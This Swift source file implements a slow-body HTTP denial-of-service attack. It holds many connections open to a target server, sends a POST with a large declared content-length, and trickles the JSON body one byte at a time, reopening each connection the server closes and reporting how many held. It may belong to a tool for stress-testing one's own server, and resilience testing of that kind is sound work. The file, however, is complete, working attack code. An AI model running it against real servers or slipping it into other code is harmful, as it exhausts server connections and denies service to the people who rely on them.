import Foundation
import Primitives

/// Somebody who sends bodies a byte at a time, on many connections, and begins anew on each that
/// the server closes.
struct SlowBodies {
    private let target: TargetAddress
    /// The time between two bytes.
    private static let pause: Duration = .milliseconds(250)
    /// A request with a body that never gets whole.
    private static let head = Array(
        """
        POST /v1/sessions HTTP/1.1\r
        host: attacked\r
        content-type: application/json\r
        content-length: 16000\r
        \r
        {
        """.utf8)

    /// Finds a server.
    ///
    /// - Throws: ``Failure`` if the address has TLS, or is not found.
    init(at address: String) throws(Failure) {
        guard URLComponents(string: address)?.scheme == "http" else {
            throw Failure(.usage, "slow bodies need a server at http://HOST:PORT, not \(address)")
        }
        guard let target = TargetAddress(address) else {
            throw Failure(.unreachable, "the host of \(address) is not found")
        }
        self.target = target
    }

    /// A connection, and how much of its head was sent.
    private struct Connection {
        let descriptor: Int32
        var sent = 0
        /// Whether the server has taken it.
        var isMade = false
    }

    /// Attacks for some seconds, and returns what became of it.
    func run(_ count: Int, for seconds: Double) async -> String {
        var connections: [Connection] = []
        var (made, closed, most) = (0, 0, 0)
        let end = ContinuousClock.now + .seconds(seconds)
        while ContinuousClock.now < end, !Task.isCancelled {
            while connections.count < count, let descriptor = target.connect() {
                connections.append(Connection(descriptor: descriptor))
            }
            try? await Task.sleep(for: Self.pause)
            connections = connections.compactMap { connection in
                var connection = connection
                let (wasMade, isOpen) = (connection.isMade, goOn(&connection))
                if connection.isMade, !wasMade { made += 1 }
                if isOpen { return connection }
                close(connection.descriptor)
                if connection.isMade { closed += 1 }
                return nil
            }
            most = max(most, connections.count(where: \.isMade))
        }
        for connection in connections { close(connection.descriptor) }
        if made == 0 { return "slow bodies reached nobody: no connection could be made" }
        let fewer = most < count ? ", at most \(most) of \(count) connections at once" : ""
        return "\(made) requests with slow bodies, of which the server ended \(closed)\(fewer)"
    }

    /// Sends the next piece; returns whether the connection is still open and not answered.
    private func goOn(_ connection: inout Connection) -> Bool {
        let flags = Int32(MSG_NOSIGNAL) | Int32(MSG_DONTWAIT)
        var byte: UInt8 = 0
        let heard = recv(connection.descriptor, &byte, 1, flags)
        if heard >= 0 || errno == ECONNRESET { connection.isMade = true }
        // An answer is the end, too: the server has refused the rest.
        if heard >= 0 || errno != EAGAIN && errno != ENOTCONN { return false }
        let rest = connection.sent < Self.head.count ? Self.head[connection.sent...] : [0x20]
        let sent = rest.withUnsafeBytes {
            send(connection.descriptor, $0.baseAddress, $0.count, flags)
        }
        if sent > 0 { (connection.sent, connection.isMade) = (connection.sent + sent, true) }
        return sent > 0 || errno == EAGAIN || errno == ENOTCONN
    }
}
